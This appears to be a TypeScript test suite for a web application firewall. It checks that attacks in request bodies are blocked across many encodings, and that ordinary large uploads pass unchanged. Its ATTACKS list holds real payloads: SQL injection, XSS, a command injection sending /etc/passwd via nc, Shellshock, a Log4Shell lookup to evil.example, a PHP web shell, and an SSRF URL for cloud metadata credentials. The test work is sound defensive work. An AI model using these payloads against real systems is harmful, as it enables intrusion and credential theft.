import { createHash, randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { EdgeAction } from '../../request/verdict.ts';
import { stopAll } from '../../test-support/forwarding-edge.ts';
import {
  browserForm,
  chunked,
  FORM_TYPE,
  type Part,
  send,
  sha,
  stand,
  typed,
  utf8,
  wire,
} from '../../test-support/managed-edge.ts';
import { eventually } from '../../test-support/raw-client.ts';

const MEGABYTE = 1_000_000;
const ATTACKS = {
  sql: "1' UNION SELECT username, password FROM users-- -",
  script: '<script>alert(document.cookie)</script>',
  path: '../../../../../../etc/passwd',
  command: ';cat /etc/passwd|nc 192.0.2.9 4444',
  shellshock: '() { :;}; /bin/bash -c "cat /etc/passwd"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack has it.
  lookup: '${jndi:ldap://evil.example/a}',
  php: "<?php system($_GET['c']); ?>",
  template: "{{''.__class__.__mro__[1].__subclasses__()}}",
  request: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  object: 'O:8:"stdClass":1:{s:4:"name";s:5:"admin";}',
  directory: '*)(uid=*))(|(uid=*',
} as const;
const TYPES = [
  ...['', 'a/b', 'image/png', 'application/octet-stream', 'application/x-json', 'application/csp-report'],
  ...['application/graphql', 'application/x-ndjson', 'text/html', 'text/plain', 'video/mp4', 'text/csv'],
];

const form = (value: string) => utf8(`page=1&comment=${encodeURIComponent(value)}`);
const json = (value: string) => utf8(JSON.stringify({ page: 1, items: [{ comment: value }] }));

const JPEG_HEAD = Buffer.from('ffd8ffe000104a4649460001', 'hex');
const photo = (bytes: number) => Buffer.concat([JPEG_HEAD, randomBytes(bytes - JPEG_HEAD.length)]);

afterEach(stopAll);

describe.each(['medium', 'high'] as const)('at %s', (sensitivity) => {
  it('an attack is found in a body however it is called and packed', async () => {
    const { edge, arrived } = await stand(sensitivity);
    const missed: string[] = [];
    let sent = 0;
    const expectStopped = async (name: string, bytes: Buffer) => {
      sent++;
      const status = await send(edge.port, bytes);
      if (status !== 403) missed.push(`${name}: ${status}`);
    };
    for (const [family, attack] of Object.entries(ATTACKS)) {
      for (const type of TYPES) {
        await expectStopped(`${family} form as '${type}'`, wire(typed(type), form(attack)));
        await expectStopped(`${family} JSON as '${type}'`, wire(typed(type), json(attack)));
      }
      const two = 'Content-Type: text/plain\r\nContent-Type: application/json\r\n';
      await expectStopped(`${family} two types`, wire(two, json(attack)));
      await expectStopped(`${family} text in chunks`, chunked(typed('text/plain'), form(attack), 7));
      const packed = gzipSync(json(attack));
      await expectStopped(`${family} gzip`, wire(`${typed('text/plain')}Content-Encoding: gzip\r\n`, packed));
      const twice = `${typed('application/json')}Content-Encoding: gzip, gzip\r\n`;
      await expectStopped(`${family} gzip twice`, wire(twice, gzipSync(packed)));
      const base64 = {
        name: 'q',
        value: utf8(attack).toString('base64'),
        headers: 'Content-Transfer-Encoding: base64\r\n',
      };
      await expectStopped(`${family} base64 part`, wire(FORM_TYPE, browserForm([base64])));
    }
    expect(missed).toEqual([]);
    expect(sent).toBe(11 * 29);
    expect(arrived).toEqual([]);
  });

  it.each([0.3, 1.2, 8, 30])(
    'an attack behind a photo of %d MB is stopped before the origin gets it',
    async (megabytes) => {
      const { edge, arrived, sawAttack } = await stand(sensitivity);
      const file = photo(megabytes * MEGABYTE);
      const behind: Record<string, Part[]> = {
        field: [{ name: 'q', value: ATTACKS.sql }],
        'field behind another photo': [
          { name: 'b', file },
          { name: 'q', value: ATTACKS.sql },
        ],
        'field in base64': [
          {
            name: 'q',
            value: utf8(ATTACKS.sql).toString('base64'),
            headers: 'Content-Transfer-Encoding: base64\r\n',
          },
        ],
        'name of a file': [{ name: 'b', file: photo(100), filename: '../../../../etc/passwd' }],
      };
      for (const [where, parts] of Object.entries(behind)) {
        const body = browserForm([{ name: 'a', file }, ...parts, { name: 'last', value: 'x' }]);
        for (const bytes of [wire(FORM_TYPE, body), chunked(FORM_TYPE, body)])
          expect([where, await send(edge.port, bytes)]).toEqual([where, 403]);
      }
      expect(arrived).toEqual([]);
      expect(sawAttack()).toBe(false);
      // A record is made when both sides are through, which may be after the client is.
      await eventually(() => edge.records.length >= 8);
      expect(edge.records.map(({ action, reason }) => [action, reason])).toEqual(
        Array(8).fill([EdgeAction.BLOCK, 'rule']),
      );
    },
  );

  it.each([0.1, 1.1, 8])(
    'a photo of %d MB arrives as it was sent, in a form and alone',
    async (megabytes) => {
      const { edge, arrived } = await stand(sensitivity);
      const file = photo(megabytes * MEGABYTE);
      const body = browserForm([
        { name: 'title', value: 'At the lake' },
        { name: 'a', file },
        { name: 'b', file },
        { name: 'note', value: 'Ünter' },
      ]);
      const answers = [
        await send(edge.port, wire(FORM_TYPE, body)),
        await send(edge.port, chunked(FORM_TYPE, body)),
        await send(edge.port, wire(typed('image/jpeg'), file)),
        await send(edge.port, chunked(typed('application/octet-stream'), file)),
      ];
      expect(answers).toEqual([200, 200, 200, 200]);
      expect(arrived.map(({ hash }) => hash)).toEqual([body, body, file, file].map(sha));
    },
  );

  it('forms and documents up to 1 MiB pass, their last value is looked at, and longer ones are too long', async () => {
    const { edge } = await stand(sensitivity);
    const words = (bytes: number) => 'some ordinary words '.repeat(bytes / 20);
    const list = (bytes: number, last: string) =>
      utf8(JSON.stringify([...Array(Math.ceil(bytes / 2000)).fill(words(1996)), last]));
    const cases: [string, Buffer, number][] = [
      ['form', utf8(`text=${words(300_000)}`), 200],
      ['form', utf8(`text=${words(1_000_000)}&q=${encodeURIComponent(ATTACKS.sql)}`), 403],
      ['form', utf8(`text=${words(1_300_000)}`), 413],
      ['json', list(300_000, 'x'), 200],
      ['json', list(1_000_000, ATTACKS.sql), 403],
      ['json', list(1_500_000, 'x'), 413],
      ['none', list(1_500_000, 'x'), 413],
    ];
    const types = { form: 'application/x-www-form-urlencoded', json: 'application/json', none: '' };
    for (const [type, body, status] of cases)
      expect([
        type,
        body.length,
        await send(edge.port, wire(typed(types[type as keyof typeof types]), body)),
      ]).toEqual([type, body.length, status]);
    const fields = browserForm(
      Array.from({ length: 60 }, (_, index) => ({ name: `f${index}`, value: words(25_000) })),
    );
    expect(await send(edge.port, wire(FORM_TYPE, fields))).toBe(413);
    await eventually(() => edge.records.length >= cases.length + 1);
    const tooLong = edge.records.filter(({ status }) => status === 413);
    expect(tooLong.map(({ action, reason }) => [action, reason])).toEqual(
      Array(4).fill([EdgeAction.REJECT, 'body_too_large']),
    );
  });
});

it.each([
  ['a header of a file', { name: 'q', headers: 'X-A: filename=x\r\n' }],
  ['a type that names a file', { name: 'q', headers: 'Content-Type: text/plain; filename=x\r\n' }],
  ['a name like that of a file', { name: 'q filename=x' }],
])('a long field with %s is no file', async (_what, field) => {
  const { edge, arrived, sawAttack } = await stand('medium');
  const value = `${'some words '.repeat(150_000)}${ATTACKS.sql}`;
  const body = browserForm([
    { name: 'a', file: photo(1_200_000) },
    { ...field, value },
  ]);
  expect(await send(edge.port, chunked(FORM_TYPE, body))).toBe(413);
  expect(arrived).toEqual([]);
  expect(sawAttack()).toBe(false);
});

describe('a file without a type, which some servers take for a field', () => {
  const untyped = (content: Buffer) =>
    Buffer.concat([
      utf8(
        '------WebKitFormBoundaryA1\r\nContent-Disposition: form-data; name="a"; filename="a.bin"\r\n\r\n',
      ),
      content,
      utf8('\r\n------WebKitFormBoundaryA1--\r\n'),
    ]);
  /** As random as compressed bytes, and the same each time. */
  const bytes = (length: number) => {
    const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, index) =>
      createHash('sha256').update(String(index)).digest(),
    );
    return Buffer.concat(blocks).subarray(0, length);
  };

  it('arrives as it was sent, however long', async () => {
    const { edge, arrived } = await stand('medium');
    const bodies = [bytes(100_000), bytes(3_000_000), Buffer.alloc(4_000_000, 'name,price\nchairs,12\n')].map(
      untyped,
    );
    for (const body of bodies) expect(await send(edge.port, chunked(FORM_TYPE, body))).toBe(200);
    expect(arrived.map(({ hash }) => hash)).toEqual(bodies.map(sha));
  });

  it.each([
    ['bytes', 0],
    ['bytes', 1_310_000],
    ['bytes', 3_000_000],
    ['text', 1_310_700],
    ['text', 3_000_000],
  ])('is looked at to its end: %s, %d of them before an attack', async (kind, before) => {
    const { edge, arrived } = await stand('medium');
    const filler = kind === 'bytes' ? bytes(before) : Buffer.alloc(before, 'name,price\nchairs,12\n');
    const behind = kind === 'bytes' ? bytes(400_000) : Buffer.alloc(400_000, 'name,price\nchairs,12\n');
    const body = untyped(Buffer.concat([filler, utf8(` ${ATTACKS.sql} `), behind]));
    expect(await send(edge.port, chunked(FORM_TYPE, body))).toBe(403);
    expect(arrived).toEqual([]);
  });
});

it('a packed body is looked into however its coding is spelled', async () => {
  const { edge, arrived } = await stand('medium');
  const packed = gzipSync(json(ATTACKS.sql));
  for (const coding of ['"gzip"', 'gzip;q=1', 'X-GZIP', ',gzip,', 'identity, gzip', "'gzip' ;x"])
    expect([
      coding,
      await send(edge.port, wire(`${typed('application/json')}Content-Encoding: ${coding}\r\n`, packed)),
    ]).toEqual([coding, 403]);
  expect(arrived).toEqual([]);
});

it('a text of XML is looked at from its beginning, behind others, and so is a value of the page before', async () => {
  const { edge, arrived } = await stand('medium');
  const order = (value: string) =>
    wire(typed('text/xml'), utf8(`<order><name>garden chairs</name>\n<a>\n  ${value}\n</a></order>`));
  const from = (value: string) => wire(`Referer: https://a.example/find?page=2&q=${value}\r\n`, utf8('a=1'));
  const answers: number[] = [];
  for (const value of ['two of them', 'ldap://evil.example/a'])
    answers.push(await send(edge.port, order(value)), await send(edge.port, from(encodeURIComponent(value))));
  expect(answers).toEqual([200, 200, 403, 403]);
  expect(arrived).toHaveLength(2);
});

it('an attack between packed bytes is found as well, for origins that do not unpack them', async () => {
  const { edge, arrived } = await stand('medium');
  const packed = gzipSync('a=1');
  const head = Buffer.from([0x1f, 0x8b, 8, 0x10, 0, 0, 0, 0, 0, 3]);
  const coded = 'Content-Encoding: gzip\r\n';
  const type = typed('application/x-www-form-urlencoded');
  const commented = (comment: Buffer) =>
    Buffer.concat([head, comment, Buffer.from([0]), packed.subarray(10)]);
  const attack = Buffer.concat([utf8('&'), form(ATTACKS.sql), utf8('&')]);
  expect(await send(edge.port, wire(type + coded, commented(attack)))).toBe(403);
  expect(await send(edge.port, wire(type + coded, Buffer.concat([packed, attack])))).toBe(400);
  const silence = Buffer.from('000000ffff'.repeat(300_000), 'hex');
  const behind = Buffer.concat([head, Buffer.from([0]), silence, gzipSync(form(ATTACKS.sql)).subarray(10)]);
  expect(await send(edge.port, wire(type + coded, behind))).toBe(413);
  expect(arrived).toEqual([]);
  expect(await send(edge.port, wire(type + coded, commented(utf8('photo.tar'))))).toBe(200);
  const document = gzipSync(randomBytes(900_000).toString('hex'));
  expect(await send(edge.port, wire(typed('text/plain') + coded, document))).toBe(200);
});

it('packed forms pass up to what is unpacked of them; beyond, an attack is one and the rest is too long', async () => {
  const { edge, arrived } = await stand('medium');
  const coded = `${FORM_TYPE}Content-Encoding: gzip\r\n`;
  const answers: [string, number][] = [];
  for (const [what, megabytes, value] of [
    ['short', 1, 'x'],
    ['short with an attack', 1, ATTACKS.sql],
    ['long', 1.8, 'x'],
    ['long with an attack', 1.8, ATTACKS.sql],
  ] as const) {
    const body = browserForm([
      { name: 'q', value },
      { name: 'a', file: photo(megabytes * MEGABYTE) },
      { name: 'last', value: 'x' },
    ]);
    // Packed, it is no longer than what is held of a body.
    answers.push([what, await send(edge.port, wire(coded, gzipSync(body)))]);
  }
  const fields = browserForm(
    Array.from({ length: 60 }, (_, index) => ({
      name: `f${index}`,
      value: randomBytes(15_000).toString('hex'),
    })),
  );
  answers.push(['fields', await send(edge.port, wire(coded, gzipSync(fields)))]);
  expect(answers).toEqual([
    ['short', 200],
    ['short with an attack', 403],
    ['long', 413],
    ['long with an attack', 403],
    ['fields', 413],
  ]);
  expect(arrived).toHaveLength(1);
  await eventually(() => edge.records.length >= answers.length);
  const tooLong = edge.records.filter(({ status }) => status === 413);
  expect(tooLong.map(({ action, reason }) => [action, reason])).toEqual(
    Array(2).fill([EdgeAction.REJECT, 'body_too_large']),
  );
});

it('50 MB in a form arrive at any sensitivity, and the record says how many bytes', async () => {
  const { edge, arrived } = await stand('high');
  const body = browserForm([
    { name: 'a', file: photo(50 * MEGABYTE) },
    { name: 'note', value: 'done' },
  ]);
  expect(await send(edge.port, wire(FORM_TYPE, body))).toBe(200);
  expect(arrived).toEqual([{ length: body.length, hash: sha(body) }]);
  await eventually(() => edge.records.length === 1);
  expect(edge.records[0]!.requestBytes).toBe(body.length);
});

it('a client that leaves in the middle of a window leaves nothing behind', async () => {
  const { edge, arrived } = await stand('medium');
  const body = browserForm([
    { name: 'a', file: photo(3 * MEGABYTE) },
    { name: 'note', value: 'half a fie' },
  ]);
  const cut = wire(FORM_TYPE, body);
  await send(edge.port, cut.subarray(0, cut.length - 40), true);
  await eventually(() => edge.records.length === 1);
  expect(edge.records[0]).toMatchObject({ clientLeft: true });
  expect(arrived).toEqual([]);
});
